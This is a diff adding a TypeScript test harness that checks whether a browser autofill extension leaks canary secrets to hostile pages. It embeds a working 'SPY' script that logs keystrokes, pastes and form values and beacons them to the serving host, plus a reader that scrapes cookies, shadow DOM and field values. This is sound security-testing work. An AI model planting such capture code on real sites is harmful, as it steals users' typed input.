@@ -1,0 +1,167 @@
+/**
+ * What the hostile pages run on: the built extension, a memory of canaries, servers for any host name over http and https, windows
+ * ("lanes") that work side by side, and an oracle that knows everything a server saw and a page can read. Each lane is a window of its
+ * own, because only the tab in front may be filled.
+ */
+import { createServer as createHttp, type IncomingMessage, type ServerResponse } from 'node:http';
+import { createServer as createHttps } from 'node:https';
+import type { AddressInfo } from 'node:net';
+import type { Frame, Page } from 'playwright-core';
+import type { OperationId } from '../../lib/core/ids.ts';
+import type { Answer, Body, PageView, SurfaceCalls } from '../../lib/messaging/contract.ts';
+import { selfSigned } from '../e2e/sites/certificate.ts';
+import { SITE_FLAGS } from '../e2e/sites/server.ts';
+import { type Session, startSession } from '../eval/session.ts';
+import { type Canaries, type CanaryName, makeCanaries } from './canaries.ts';
+
+export interface Lane {
+  readonly page: Page;
+  readonly tabId: number;
+}
+
+export interface Rig {
+  readonly session: Session;
+  readonly canaries: Canaries;
+  /** Serves a body at an address of any host; answers with the address. */
+  serve(host: string, body: string, options?: { readonly secure?: boolean; readonly path?: string; readonly raw?: boolean }): string;
+  lane(): Promise<Lane>;
+  /** A call as a surface makes it. */
+  call<N extends keyof SurfaceCalls>(name: N, body: Body<N>): Promise<Answer<N>>;
+  view(lane: Lane): Promise<PageView>;
+  /** The most careless person: yes to everything that has a value. */
+  acceptAll(lane: Lane, view: PageView): Promise<Answer<'surface.accept'>>;
+  /** Everything that any script of the page, in any frame, can read now or has recorded. */
+  readable(lane: Lane): Promise<string>;
+  /** What servers were asked for, with headers and bodies, since the last call. */
+  asked(): string;
+  /** Leaves the page, and lets what it was still sending home arrive, so that nothing of it is taken for the next one's. */
+  leave(lane: Lane): Promise<void>;
+  /** Canaries that a page or a server knows and should not. */
+  leaks(lane: Lane, approved: readonly CanaryName[]): Promise<readonly CanaryName[]>;
+  close(): Promise<void>;
+}
+
+/** In every served page: records what a hostile page would, and sends it home. */
+const SPY = `<script>(() => {
+  const log = new Set();
+  Object.assign(window, { __log: log });
+  const home = () => navigator.sendBeacon && log.size && navigator.sendBeacon('/home', [...log].join(' '));
+  for (const type of ['input', 'change', 'beforeinput', 'keydown', 'keyup', 'paste', 'focusin', 'focusout', 'compositionend'])
+    addEventListener(type, (event) => {
+      const at = event.target || {};
+      for (const one of [at.value, at.textContent && at.isContentEditable ? at.textContent : '', event.data, event.key]) if (one) log.add(String(one));
+    }, true);
+  const poll = () => {
+    for (const one of document.querySelectorAll('input, textarea, select')) if (one.value) log.add(one.value);
+    requestAnimationFrame(poll);
+  };
+  poll();
+  setInterval(home, 400);
+})()</script>`;
+
+export const page = (body: string): string =>
+  `<!doctype html><html lang="en"><meta charset="utf-8"><title>Join us</title>${SPY}<body>${body}`;
+
+export async function startRig(): Promise<Rig> {
+  const canaries = makeCanaries();
+  const pages = new Map<string, string>();
+  let log: string[] = [];
+  const answer = async (request: IncomingMessage, response: ServerResponse) => {
+    const chunks: Buffer[] = [];
+    for await (const chunk of request) chunks.push(chunk as Buffer);
+    log.push(`${request.url} ${JSON.stringify(request.headers)} ${Buffer.concat(chunks).toString()}`);
+    const html = pages.get(`${request.headers.host?.split(':')[0]}${request.url?.split('?')[0]}`);
+    response.writeHead(html === undefined ? 404 : 200, { 'content-type': 'text/html; charset=utf-8' });
+    response.end(html ?? '');
+  };
+  const plain = createHttp(answer);
+  const secure = createHttps(selfSigned(['*.example', '*.shop.example', '*.example.co.uk', '*.github.io']), answer);
+  for (const server of [plain, secure]) await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  const portOf = (server: { address(): unknown }) => (server.address() as AddressInfo).port;
+  const session = await startSession({ args: SITE_FLAGS });
+  await session.onboard(canaries.memory);
+  const caller = await session.extension.openSurface('options');
+  let count = 0;
+  const call: Rig['call'] = async (name, body) => {
+    const envelope = (await caller.evaluate((message) => chrome.runtime.sendMessage(message), { to: 'background', name, body })) as {
+      ok: boolean;
+      value: never;
+      reason?: string;
+    };
+    if (!envelope?.ok) throw new Error(`${name}: ${envelope?.reason}`);
+    return envelope.value;
+  };
+  const rig: Rig = {
+    session,
+    canaries,
+    serve(host, body, options = {}) {
+      const path = options.path ?? `/${++count}`;
+      pages.set(host + path, options.raw ? body : page(body));
+      const safe = options.secure ?? true;
+      return `${safe ? 'https' : 'http'}://${host}:${portOf(safe ? secure : plain)}${path}`;
+    },
+    async lane() {
+      const address = rig.serve('lane.example', '<p>Ready</p>', { path: `/lane-${++count}` });
+      const opened = session.extension.context.waitForEvent('page');
+      const tabId = await caller.evaluate(
+        (url) => chrome.windows.create({ url, width: 1200, height: 900, focused: false }).then((made) => made?.tabs?.[0]?.id ?? -1),
+        address,
+      );
+      const lanePage = await opened;
+      await lanePage.waitForURL(address);
+      return { page: lanePage, tabId };
+    },
+    call,
+    view: (lane) => call('surface.page', { tabId: lane.tabId, cached: false }),
+    acceptAll: (lane, view) =>
+      call('surface.accept', {
+        tabId: lane.tabId,
+        view: view.view,
+        rows: view.rows.filter((row) => ['ready', 'asked'].includes(row.status) && row.value !== undefined).map(({ id }) => ({ id })),
+        operation: `attack-${++count}` as OperationId,
+      }),
+    async readable(lane) {
+      const texts = await Promise.all(lane.page.frames().map((frame) => read(frame)));
+      return texts.join('\n');
+    },
+    asked() {
+      const text = log.join('\n');
+      log = [];
+      return text;
+    },
+    async leave(lane) {
+      await lane.page.goto('about:blank');
+      await lane.page.waitForTimeout(250);
+      log = [];
+    },
+    leaks: async (lane, approved) =>
+      canaries.found(`${await rig.readable(lane)}\n${rig.asked()}`).filter((name) => !approved.includes(name)),
+    async close() {
+      await session.close();
+      for (const server of [plain, secure]) {
+        server.closeAllConnections();
+        await new Promise((done) => server.close(done));
+      }
+    },
+  };
+  return rig;
+}
+
+function read(frame: Frame): Promise<string> {
+  return frame
+    .evaluate(() => {
+      const texts: string[] = [document.documentElement.outerHTML, document.title, location.href, document.cookie, window.name];
+      const roots: (Document | ShadowRoot)[] = [document];
+      for (let root = roots.pop(); root; root = roots.pop()) {
+        for (const one of root.querySelectorAll('*')) {
+          if (one.shadowRoot) {
+            roots.push(one.shadowRoot);
+            texts.push(one.shadowRoot.innerHTML);
+          }
+          if ('value' in one && typeof one.value === 'string') texts.push(one.value);
+        }
+      }
+      return [...texts, ...((window as never as { __log?: Set<string> }).__log ?? []), document.body?.innerText ?? ''].join('\n');
+    })
+    .catch(() => '');
+}
